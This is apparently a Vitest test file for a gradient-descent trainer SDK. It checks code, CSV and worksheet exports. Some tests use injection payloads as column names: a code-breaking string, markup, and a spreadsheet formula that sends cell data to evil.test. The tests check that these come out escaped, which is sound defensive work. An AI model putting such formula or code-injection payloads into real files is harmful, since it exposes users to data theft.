import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { type FitOptions, OPTIMIZERS, type Source, Trainer } from '@gd-trainer/sdk';
import { parseCsv } from '@gd-trainer/sdk/csv';
import { toCode, toCsv, toWorksheet } from '@gd-trainer/sdk/export';
import { sumsIn } from '@gd-trainer/testing/arithmetic';
import { needs } from '@gd-trainer/testing/needs';
import { pythonWithNumpy } from '@gd-trainer/testing/programs';
import { randomNumbers } from '@gd-trainer/testing/random-numbers';
import { transformSync } from 'esbuild';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dataSet } from './data-sets.ts';

interface Parameters {
  readonly weights: readonly number[];
  readonly bias: number;
}

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'gd-trainer-'));
  // the sdk by its name, as where it is installed
  symlinkSync(
    fileURLToPath(new URL('../../../apps/tui/node_modules', import.meta.url)),
    join(folder, 'node_modules'),
  );
});
afterAll(() => rmSync(folder, { recursive: true }));

function runTypeScript(code: string): Parameters {
  writeFileSync(join(folder, 'run.mjs'), transformSync(code, { loader: 'ts' }).code);
  return JSON.parse(execFileSync(process.execPath, ['run.mjs'], { cwd: folder, encoding: 'utf8' }));
}

function runNumpy(code: string): Parameters {
  return JSON.parse(execFileSync(pythonWithNumpy!, ['-'], { cwd: folder, input: code, encoding: 'utf8' }));
}

const HOSTILE = '"""\n*/ evil() \u2028\u2029 😀 `x`\\';
const u = randomNumbers(7, 60);
const columns = {
  a: Array.from({ length: 20 }, (_, i) => 10 + 3 * u[i]!),
  [HOSTILE]: Array.from({ length: 20 }, (_, i) => -5 + 8 * u[20 + i]!),
  y: Array.from({ length: 20 }, (_, i) => 4 * u[i]! - 9 * u[20 + i]! + 0.1 * u[40 + i]! + 100),
};

/** Runs with everything that a run can have, each by what is special of it. */
const RUNS: readonly (readonly [
  name: string,
  source: Source,
  options: FitOptions,
  go: (trainer: Trainer) => void,
])[] = [
  ...OPTIMIZERS.flatMap((optimizer) => [
    [`${optimizer} on full batches`, columns, { optimizer }, (t: Trainer) => t.seek(57)] as const,
    ...(optimizer === 'cg'
      ? []
      : [
          [
            `${optimizer} by batches of 6`,
            columns,
            { optimizer, batchSize: 6, seed: 4294967295 },
            (t: Trainer) => {
              t.step('epoch', 5);
              t.step('batch', 2);
            },
          ] as const,
        ]),
  ]),
  ['single samples in order', columns, { batchSize: 1, shuffle: false }, (t) => t.step('epoch', 3)],
  ['raw features', columns, { scale: 'none', learningRate: 1e-4 }, (t) => t.seek(20)],
  ['no intercept', columns, { intercept: false, batchSize: 4 }, (t) => t.step('epoch', 4)],
  ['l2', columns, { l2: 0.3, optimizer: 'adam' }, (t) => t.seek(30)],
  ['l1', columns, { l1: 0.5 }, (t) => t.seek(30)],
  ['l1 with nesterov', columns, { l1: 0.5, l2: 0.1, optimizer: 'nesterov' }, (t) => t.seek(30)],
  ['a start', columns, { initial: { weights: [1, -2], bias: 3 } }, (t) => t.seek(5)],
  ['a full batch over rows', columns, { path: 'rows' }, (t) => t.step('epoch', 7)],
  [
    'missing values and a column that never varies',
    { a: [1, 2, null, 4], still: [7, 7, 7, 7], y: [3, 5, 7, 9.5] },
    { missing: 'drop' },
    (t) => t.seek(9),
  ],
  [
    'options changed on the way',
    columns,
    { optimizer: 'momentum', learningRate: 0.3, momentum: 0.5 },
    (t) => {
      t.step('epoch', 4);
      t.set({ learningRate: 0.1 });
      t.seek(20);
      t.set({ optimizer: 'gd', scale: 'none', learningRate: 1e-3, batchSize: 5 });
      t.step('epoch', 2);
      t.step('batch', 1);
      t.set({ optimizer: 'adam', l2: 0.01 });
      t.step('epoch', 1);
      t.step('batch', 3);
    },
  ],
];

describe.each(RUNS)('%s', (_, source, options, go) => {
  const trainer = new Trainer(source, { target: 'y', ...options });
  go(trainer);
  const { weights, bias } = trainer.snapshot;

  it('runs again in TypeScript, to the same bits', () => {
    const code = toCode(trainer, 'typescript');
    // editors, and TypeScript before ES2019, take these for ends of lines
    expect(code).not.toMatch(/[\u2028\u2029]/);
    expect(runTypeScript(code)).toEqual({ weights: [...weights], bias });
  });

  it('runs again in NumPy, but for rounding', needs(Boolean(pythonWithNumpy), 'NumPy'), () => {
    const again = runNumpy(toCode(trainer, 'numpy'));
    const size = Math.max(...weights.map(Math.abs));
    again.weights.forEach((weight, j) => {
      expect(Math.abs(weight - weights[j]!)).toBeLessThan(1e-9 * size);
    });
    expect(Math.abs(again.bias - bias)).toBeLessThan(1e-9 * Math.max(Math.abs(bias), size));
  });
});

describe('rows in a file', () => {
  const { columns: penguins, options } = dataSet('penguins');
  const trainer = new Trainer(penguins, { ...options, missing: 'drop' });
  trainer.seek(40);
  const { weights } = trainer.snapshot;
  const names = Object.keys(penguins);
  const lines = Array.from({ length: penguins[names[0]!]!.length }, (_, i) =>
    names.map((name) => penguins[name]![i] ?? 'NA').join(','),
  );
  const csv = [names.join(','), ...lines].join('\n');

  it('are read by the code', () => {
    writeFileSync(join(folder, 'penguins.csv'), csv);
    const file = 'penguins.csv';
    expect(runTypeScript(toCode(trainer, 'typescript', { file })).weights).toEqual([...weights]);
    if (pythonWithNumpy) {
      const again = runNumpy(toCode(trainer, 'numpy', { file })).weights;
      again.forEach((weight, j) => {
        expect(weight / weights[j]!).toBeCloseTo(1, 9);
      });
    }
  });

  it('are asked for by name', () => {
    expect(() => toCode(trainer, 'numpy')).toThrow(/"file" expected a name/);
  });
});

it('what cannot be written is refused', () => {
  const weighted = new Trainer(columns, { target: 'y', sampleWeight: new Float64Array(20).fill(2) });
  expect(() => toCode(weighted, 'numpy')).toThrow(expect.objectContaining({ code: 'UNSUPPORTED' }));
  expect(() => toWorksheet(weighted)).toThrow(expect.objectContaining({ code: 'UNSUPPORTED' }));
  const scheduled = new Trainer(columns, { target: 'y', learningRate: (epoch) => 1 / (epoch + 1) });
  expect(() => toCode(scheduled, 'typescript')).toThrow(expect.objectContaining({ code: 'UNSUPPORTED' }));
  expect(() => toCode(weighted, 'fortran' as 'numpy')).toThrow(/typescript or numpy, got "fortran"/);
});

describe('a run as CSV', () => {
  it('goes from the start to the present, every number as it was', () => {
    const trainer = new Trainer(columns, { target: 'y' });
    trainer.seek(500);
    const lines = toCsv(trainer).trimEnd().split('\n');
    // the name with a line break in it is quoted
    const body = lines
      .slice(lines.findIndex((line) => line.endsWith(',bias')) + 1)
      .map((line) => line.split(',').map(Number));
    expect(lines[0]).toMatch(/^epoch,loss,a,"/);
    expect(body[0]![0]).toBe(0);
    expect(body.length).toBeLessThanOrEqual(1000);
    for (const [epoch, loss, ...parameters] of body) {
      const state = trainer.seek(epoch!);
      expect([loss, ...parameters]).toEqual([state.loss, ...state.weights, state.bias]);
    }
    expect(body.at(-1)![0]).toBe(500);
    trainer.seek(3);
    const epochs = toCsv(trainer).trimEnd().split('\n').slice(-5);
    expect(epochs.map((line) => line.split(',')[0])).toEqual([
      expect.stringMatching(/"$/),
      '0',
      '1',
      '2',
      '3',
    ]);
  });

  it.each(['=HYPERLINK("http://evil.test?"&B2,"x")', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1'])(
    'has no name that a spreadsheet would run: %j',
    (name) => {
      const trainer = new Trainer({ [name]: [1, 2, 4], y: [1, 2, 3] }, { target: 'y' });
      const { names, columns } = parseCsv(toCsv(trainer));
      expect(names).toEqual(['epoch', 'loss', `'${name}`, 'bias']);
      expect(columns.bias![0]).toBe(0);
    },
  );

  it('leaves the session where it is', () => {
    const trainer = new Trainer(columns, { target: 'y', batchSize: 6 });
    trainer.step('batch', 3);
    const before = trainer.snapshot;
    const lines = toCsv(trainer).trimEnd().split('\n').slice(-2);
    expect(lines[0]).toMatch(/^0,/);
    expect(lines[1]).toMatch(/^0\.9,/);
    expect(trainer.snapshot).toEqual(before);
  });
});

describe('a worksheet', () => {
  const lecture = dataSet('lecture');
  const sheet = (options: FitOptions, language: 'en' | 'zh-CN' = 'en') =>
    toWorksheet(new Trainer(lecture.columns, { ...lecture.options, ...options }), language);
  /** What stands on the right of the last = of each line that holds `left`, as a number. */
  const resultsOf = (text: string, left: string): number[] =>
    text
      .split('\n')
      .filter((line) => line.includes(left))
      .map((line) =>
        Number(
          line
            .split(/= |gets /)
            .at(-1)!
            .replace(/\$.*/, '')
            .replace(/ \\cdot 10\^\{(.+)\}/, 'e$1'),
        ),
      );

  it.each([
    { batchSize: 1, shuffle: false },
    { batchSize: 2, seed: 3 },
    { batchSize: 'full' },
    { scale: 'standard', batchSize: 'full', optimizer: 'momentum', learningRate: 0.1, momentum: 0.5 },
    { scale: 'standard', batchSize: 2, optimizer: 'nesterov', momentum: 0.9 },
    { optimizer: 'adam', batchSize: 'full', l2: 0.1 },
    { optimizer: 'cg', batchSize: 'full', learningRate: 'auto', l2: 0.1 },
  ] as const satisfies readonly FitOptions[])('says what the run does: %o', (options) => {
    const trainer = new Trainer(lecture.columns, { ...lecture.options, ...options });
    const text = toWorksheet(trainer);
    const updates = text.split('## Update').slice(1);
    expect(updates).toHaveLength(3);
    updates.forEach((update) => {
      const { scaled } = trainer.step('batch');
      const close = (value: number, wanted: number) =>
        expect(Math.abs(value - wanted)).toBeLessThanOrEqual(1e-5 * Math.max(1e-9, Math.abs(wanted)));
      Array.from(scaled.weights, (weight, j) =>
        close(resultsOf(update, `w_{${j + 1}} \\leftarrow`)[0]!, weight),
      );
      close(resultsOf(update, '$b \\leftarrow')[0]!, scaled.bias);
    });
  });

  it('computes ∂L/∂ŷ once and multiplies it', async () => {
    const text = sheet({ batchSize: 1, shuffle: false, learningRate: 0.01 });
    await expect(text).toMatchFileSnapshot('worksheets/lecture.md');
  });

  it('is there in Chinese', () => {
    expect(sheet({ batchSize: 'full' }, 'zh-CN')).toContain('# 手算梯度下降');
    expect(sheet({ batchSize: 'full' }, 'zh-CN')).toContain('第 3 次更新');
  });

  /** A formula of a sheet as a calculator takes it. */
  const plainFormula = (line: string): string =>
    line
      .replace(/^- |\$/g, '')
      .replaceAll('\\cdot', '·')
      .replaceAll('\\tfrac12', '½·')
      .replaceAll('^2', '²')
      .replaceAll('\\leftarrow', '=');

  it.each([
    [{ batchSize: 1, shuffle: false, learningRate: 0.1 }, 15],
    [{ batchSize: 2, seed: 3 }, 30],
    [{ scale: 'standard', batchSize: 'full', learningRate: 0.1 }, 30],
  ] as const)('has no sum that a calculator does not come to: %o', (options, least) => {
    const sums = sheet(options).split('\n').map(plainFormula).flatMap(sumsIn);
    expect(sums.length).toBeGreaterThanOrEqual(least);
    // operands have six digits
    const wrong = sums.filter(
      ({ left, right }) => Math.abs(left - right) > 2e-5 * Math.max(1, Math.abs(right)),
    );
    expect(wrong.map(({ text }) => text)).toEqual([]);
  });

  it.each([
    ['en', 'Answers', ['Forward', 'Backward', 'Update']],
    ['zh-CN', '答案', ['前向', '反向（链式法则）', '更新']],
  ] as const)(
    'comes in %s as an exercise with blanks, the answers behind, words between',
    (language, answers, steps) => {
      const trainer = new Trainer(lecture.columns, lecture.options);
      const worked = toWorksheet(trainer, language).split('\n');
      const text = toWorksheet(trainer, language, 'exercise');
      const [blanks, solved] = text.split(`# ${answers}\n`) as [string, string];
      const formulas = worked.filter((line) => line.startsWith('- $') && /=|leftarrow/.test(line));
      expect(formulas).toHaveLength(3 * 9);
      for (const formula of formulas) {
        expect(solved).toContain(formula);
        expect(blanks).not.toContain(formula);
      }
      expect(blanks.match(/^- \$[^$]+(?:=|\\leftarrow)\$ (?:\\_)+$/gm)).toHaveLength(3 * 9);
      // the row is given, and nothing that follows from it
      expect(blanks).toContain('$x_{1} = 2, \\; x_{2} = 1, \\; y = 8$');
      expect(blanks).not.toMatch(/-16|1\.6/);
      for (const word of steps)
        expect(blanks.match(new RegExp(`^${word}.*$`, 'gm'))!.length).toBeGreaterThanOrEqual(3);
    },
  );

  it('lets no name become markup', () => {
    const text = toWorksheet(new Trainer({ '<b>$x$\n# |`': [1, 2, 4], y: [1, 2, 3] }, { target: 'y' }));
    expect(text).toContain('\\<b\\>\\$x\\$ \\# \\|\\`');
  });
});

it('a worksheet has the updates as they were made, whatever was set after them', () => {
  const trainer = new Trainer(
    { a: [1, 2, 3, 4], b: [2, 1, 5, 3], y: [8, 6, 20, 16] },
    { target: 'y', batchSize: 1, scale: 'none', learningRate: 0.01, shuffle: false },
  );
  trainer.step('batch', 2);
  trainer.set({ learningRate: 0.5 });
  const sheet = toWorksheet(trainer, 'en');
  expect(sheet).toContain('0 - 0.01 \\cdot (-8) = 0.08$');
  expect(sheet).toMatch(/## Update 3\n\nFrom here on \$\\alpha = 0\.5\$, optimizer gd\./);
  expect(toWorksheet(trainer, 'zh-CN')).toContain('从这里起学习率');
});

describe('a worksheet of cg', () => {
  /** y by a and b, uneven, and the rows of X̃ with them. */
  const rows = [
    [2, 1, 8],
    [1, 3, 6],
    [0, 1, 4],
    [1, 0, 3],
    [5, 2, 1],
  ] as const;
  const columns = { a: rows.map(([a]) => a), b: rows.map(([, b]) => b), y: rows.map(([, , y]) => y) };
  const run = { target: 'y', scale: 'none', l2: 0.1 } as const;
  const sum = (values: readonly number[]): number => values.reduce((total, value) => total + value, 0);
  const dot = (a: readonly number[], b: readonly number[]): number => sum(a.map((x, i) => x * b[i]!));

  interface Written {
    readonly rate: number;
    readonly momentum: number;
    readonly gradient: readonly number[];
    readonly velocity: readonly number[];
    readonly theta: readonly number[];
  }

  /** Updates by Hestenes & Stiefel: p ← r + (r′ᵀr′/rᵀr)·p, θ ← θ + (rᵀr/pᵀHp)·p, so that αβ/α′ of the last step is kept. */
  function recurrence(start: readonly number[], updates: number): Written[] {
    const gradientAt = (theta: readonly number[]): number[] =>
      theta.map(
        (value, j) =>
          sum(
            rows.map(([a, b, y]) => {
              const x = [a, b, 1];
              return ((dot(theta, x) - y) * x[j]!) / rows.length;
            }),
          ) + (j < 2 ? run.l2 * value : 0),
      );
    const atZero = gradientAt([0, 0, 0]);
    const found: Written[] = [];
    let [theta, direction, squares, last] = [[...start], [0, 0, 0], Infinity, 1];
    let velocity = [0, 0, 0];
    for (let update = 0; update < updates; update++) {
      const gradient = gradientAt(theta);
      const kept = dot(gradient, gradient) / squares;
      squares = dot(gradient, gradient);
      direction = direction.map((value, j) => kept * value - gradient[j]!);
      const image = gradientAt(direction).map((value, j) => value - atZero[j]!);
      const rate = squares / dot(direction, image);
      const before = theta;
      theta = theta.map((value, j) => value + rate * direction[j]!);
      found.push({ rate, momentum: (rate * kept) / last, gradient, velocity, theta });
      velocity = theta.map((value, j) => value - before[j]!);
      last = rate;
    }
    return found;
  }

  /** The numbers of `old + momentum · velocity − rate · gradient = new`, a line a parameter. */
  function written(update: string): Written {
    const number = String.raw`\(?(-?[\d.]+(?: \\cdot 10\^\{-?\d+\})?)\)?`;
    const line = new RegExp(
      String.raw`leftarrow .*? \+ ${number} \\cdot ${number} - ${number} \\cdot ${number} = ${number}\$`,
      'g',
    );
    const lines = [...update.matchAll(line)].map(([, ...numbers]) =>
      numbers.map((text) => Number(text.replace(/ \\cdot 10\^\{(.+)\}/, 'e$1'))),
    );
    const of = (index: number): number[] => lines.map((numbers) => numbers[index]!);
    return { momentum: of(0)[0]!, velocity: of(1), rate: of(2)[0]!, gradient: of(3), theta: of(4) };
  }

  const close = (got: readonly number[], wanted: readonly number[]): void => {
    expect(got).toHaveLength(wanted.length);
    for (const [i, value] of wanted.entries())
      expect(Math.abs(got[i]! - value), `${got} and ${wanted}`).toBeLessThan(2e-5 * (1e-6 + Math.abs(value)));
  };

  function expectRecurrence(updates: readonly string[], wanted: readonly Written[]): void {
    expect(updates).toHaveLength(wanted.length);
    for (const [i, { rate, momentum, gradient, velocity, theta }] of wanted.entries()) {
      const on = written(updates[i]!);
      close([on.rate, on.momentum], [rate, momentum]);
      close(on.gradient, gradient);
      close(on.velocity, velocity);
      close(on.theta, theta);
    }
  }

  it('has rate, kept share, gradient and last step of each update as a plain recurrence has them', () => {
    const trainer = new Trainer(columns, { ...run, optimizer: 'cg' });
    const updates = toWorksheet(trainer).split('## Update').slice(1);
    expectRecurrence(updates, recurrence([0, 0, 0], 3));
  });

  it('begins cg anew where it was chosen on the way', () => {
    const trainer = new Trainer(columns, { ...run, optimizer: 'gd' });
    const { weights, bias } = trainer.step('epoch');
    trainer.set({ optimizer: 'cg' });
    trainer.step('epoch', 3);
    const [, ...updates] = toWorksheet(trainer).split('## Update').slice(1);
    const wanted = recurrence([...weights, bias], 2);
    expect(updates[0]).toContain(`optimizer cg`);
    // the step before was that of gd
    const [first, second] = updates.map(written) as [Written, Written];
    close([first.rate, first.momentum, ...first.theta], [wanted[0]!.rate, 0, ...wanted[0]!.theta]);
    close([second.rate, second.momentum], [wanted[1]!.rate, wanted[1]!.momentum]);
    close([...second.gradient, ...second.theta], [...wanted[1]!.gradient, ...wanted[1]!.theta]);
  });

  it('keeps nothing of the last step where it has arrived', () => {
    // two steps in exact arithmetic: g is 0 in the third
    const trainer = new Trainer({ x: [2, 0], y: [2, 0] }, { target: 'y', scale: 'none', optimizer: 'cg' });
    const third = toWorksheet(trainer).split('## Update')[3]!;
    expect(third).toContain('$g_{b} = (0 + 0) / 2 = 0$');
    const { momentum, gradient, theta } = written(third);
    expect([momentum, ...gradient, ...theta]).toEqual([0, 0, 0, 1, 0]);
  });
});
